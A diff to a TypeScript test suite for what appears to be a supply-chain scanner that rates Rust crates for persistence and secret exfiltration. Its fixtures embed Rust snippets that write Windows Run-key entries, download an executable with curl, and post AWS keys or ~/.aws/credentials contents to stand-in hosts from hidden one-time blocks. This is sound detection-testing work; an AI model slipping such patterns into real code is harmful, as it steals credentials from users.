@@ -149,6 +149,52 @@ describe('explicit triggers', () => {
   });
 });
 
+describe('persistence the crate exists for', () => {
+  const toggle = (description: string, method: string, body = '') =>
+    ({
+      'Cargo.toml': manifest('winlaunch', { package: `description = "${description}"\n` }),
+      'src/lib.rs': [
+        'pub struct Item { name: String, exe: std::path::PathBuf }',
+        'impl Item {',
+        '    pub fn new(name: &str, exe: std::path::PathBuf) -> Item { Item { name: name.into(), exe } }',
+        `    pub fn ${method}(&self, on: bool) -> std::io::Result<()> {`,
+        body,
+        '        let (run, _) = winreg::RegKey::predef(winreg::enums::HKEY_CURRENT_USER)',
+        '            .create_subkey("Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run")?;',
+        '        if on { run.set_value(&self.name, &self.exe.display().to_string()) } else { run.delete_value(&self.name) }',
+        '    }',
+        '}',
+      ].join('\n'),
+    }) as Files;
+
+  it('an undocumented toggle named for the entry, in a crate that says it manages it, stays below high', async () => {
+    const r = await scanFiles(toggle("Offer a 'start at login' checkbox in your app", 'set_enabled'));
+    expect(high(r)).toBe(false);
+    expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('named for the entry');
+  });
+
+  it('the same toggle in a crate that says nothing about login items stays high', async () => {
+    const r = await scanFiles(toggle('Colour themes for terminal apps', 'set_enabled'));
+    expect(worst(r, 'flow.persistence')).toBe('high');
+  });
+
+  it('the same entry written by a pub fn not named for it stays high, whatever the crate says', async () => {
+    const r = await scanFiles(toggle("Offer a 'start at login' checkbox in your app", 'refresh'));
+    expect(worst(r, 'flow.persistence')).toBe('high');
+  });
+
+  it('a downloaded program persisted by the toggle is not the caller asking', async () => {
+    const r = await scanFiles(
+      toggle(
+        "Offer a 'start at login' checkbox in your app",
+        'set_enabled',
+        '        let _ = std::process::Command::new("curl").args(["-o", "C:\\\\t\\\\a.exe", "https://dl.example/a-FAKE-DO-NOT-RUN.exe"]).status();',
+      ),
+    );
+    expect(high(r)).toBe(true);
+  });
+});
+
 describe('implicitly run trait impls', () => {
   const amount = (header: string, method: string) =>
     lib('weix', {
@@ -176,6 +222,93 @@ describe('implicitly run trait impls', () => {
   it('the same send from an ordinary pub method is public API (medium)', async () => {
     const r = await scanFiles(amount('impl Wei {', 'pub fn plus(self, o: Wei) -> Wei'));
     expect(worst(r, 'flow.exfiltration')).toBe('medium');
+  });
+});
+
+describe('one-time blocks in ordinary API', () => {
+  const crc = (guard: [string, string]) =>
+    lib('crcx', {
+      'src/lib.rs': [
+        'static ONCE: std::sync::Once = std::sync::Once::new();',
+        'static SENT: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);',
+        'pub fn crc32(data: &[u8]) -> u32 {',
+        `    ${guard[0]}`,
+        '        if let Ok(k) = std::env::var("AWS_SECRET_ACCESS_KEY") {',
+        '            let _ = ureq::post("https://tables.crcx.example/v1").send_string(&k);',
+        '        }',
+        `    ${guard[1]}`,
+        '    data.iter().fold(0xffff_ffffu32, |c, b| c ^ *b as u32)',
+        '}',
+      ].join('\n'),
+    });
+
+  it('a secret sent from a Once block of a pure function runs on its first call (high)', async () => {
+    const r = await scanFiles(crc(['ONCE.call_once(|| {', '});']));
+    expect(worst(r, 'flow.exfiltration')).toBe('high');
+    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('a one-time block');
+  });
+
+  it('so does one behind an atomic flag swapped on the first call', async () => {
+    const r = await scanFiles(crc(['if !SENT.swap(true, std::sync::atomic::Ordering::SeqCst) {', '}']));
+    expect(worst(r, 'flow.exfiltration')).toBe('high');
+  });
+
+  it('the same send from the same pub fn without a one-time block is public API (medium)', async () => {
+    const r = await scanFiles(crc(['{', '}']));
+    expect(worst(r, 'flow.exfiltration')).toBe('medium');
+  });
+
+  it('a client only built in a get_or_init, the key sent outside it, is still public API', async () => {
+    const r = await scanFiles(
+      lib('sdkx', {
+        'src/lib.rs': [
+          'static CLIENT: std::sync::OnceLock<reqwest::blocking::Client> = std::sync::OnceLock::new();',
+          'pub fn track(event: &str) {',
+          '    let c = CLIENT.get_or_init(reqwest::blocking::Client::new);',
+          '    let key = std::env::var("ACME_API_KEY").unwrap_or_default();',
+          '    let _ = c.post("https://api.sdkx.example/track").header("Authorization", key).body(event.to_string()).send();',
+          '}',
+        ].join('\n'),
+      }),
+    );
+    expect(high(r)).toBe(false);
+    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence ?? '').not.toContain('one-time block');
+  });
+
+  it('a crate function handed to call_once runs on the first call', async () => {
+    const r = await scanFiles(
+      lib('dpix', {
+        'src/lib.rs': [
+          'mod cal;',
+          'static ONCE: std::sync::Once = std::sync::Once::new();',
+          'pub fn scale() -> f64 { ONCE.call_once(cal::measure); 1.0 }',
+        ].join('\n'),
+        'src/cal.rs': [
+          'pub(crate) fn measure() {',
+          '    let k = std::fs::read_to_string("/home/u/.aws/credentials").unwrap_or_default();',
+          '    let _ = ureq::post("https://cal.dpix.example/m").send_string(&k);',
+          '}',
+        ].join('\n'),
+      }),
+    );
+    expect(worst(r, 'flow.exfiltration')).toBe('critical');
+    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('a one-time block');
+  });
+
+  it('a Once that only fills a table reaches no sink and says nothing', async () => {
+    const r = await scanFiles(
+      lib('tblx', {
+        'src/lib.rs': [
+          'static ONCE: std::sync::Once = std::sync::Once::new();',
+          'static mut T: [u32; 256] = [0; 256];',
+          'pub fn crc32(data: &[u8]) -> u32 {',
+          '    ONCE.call_once(|| unsafe { for i in 0..256 { T[i] = i as u32 * 0x04c1_1db7; } });',
+          '    data.iter().fold(0u32, |c, b| unsafe { T[((c ^ *b as u32) & 0xff) as usize] ^ (c >> 8) })',
+          '}',
+        ].join('\n'),
+      }),
+    );
+    expect(r.findings.filter((f) => f.ruleId.startsWith('flow.'))).toEqual([]);
   });
 });
 
@@ -211,6 +344,42 @@ describe('configured endpoints', () => {
   it('the same names sent to the messenger from a Drop impl are high', async () => {
     const r = await scanFiles(deployNote('impl Drop for Notifier {', 'fn drop(&mut self)'));
     expect(worst(r, 'flow.exfiltration')).toBe('high');
+  });
+
+  const hook = (host: string, extra = '') =>
+    lib('hookx', {
+      'src/lib.rs': [
+        'pub struct Hook { url: String }',
+        'impl Hook {',
+        '    pub fn from_env() -> Option<Hook> {',
+        '        let id = std::env::var("HOOK_ID").ok()?;',
+        '        let token = std::env::var("HOOK_TOKEN").ok()?;',
+        extra,
+        `        Some(Hook { url: format!("${host}/{id}/{token}") })`,
+        '    }',
+        '    pub fn post(&self, msg: &str) { let _ = ureq::post(&self.url).send_string(msg); }',
+        '}',
+      ].join('\n'),
+    });
+
+  it("a webhook's own id and token, read from variables named for it and sent to the messenger, stay below high", async () => {
+    const r = await scanFiles(hook('https://discord.com/api/webhooks'));
+    expect(high(r)).toBe(false);
+  });
+
+  it('the same variables sent to a raw address are still exfiltration at high or above', async () => {
+    const r = await scanFiles(hook('http://203.0.113.9/h'));
+    expect(high(r)).toBe(true);
+  });
+
+  it('cloud credentials read beside the hook token and sent to the same messenger are high or above', async () => {
+    const r = await scanFiles(
+      hook(
+        'https://discord.com/api/webhooks',
+        '        let _aws = std::fs::read_to_string("/home/u/.aws/credentials").ok()?;',
+      ),
+    );
+    expect(high(r)).toBe(true);
   });
 
   it('the same token sent to a hard-coded webhook of another service is critical', async () => {
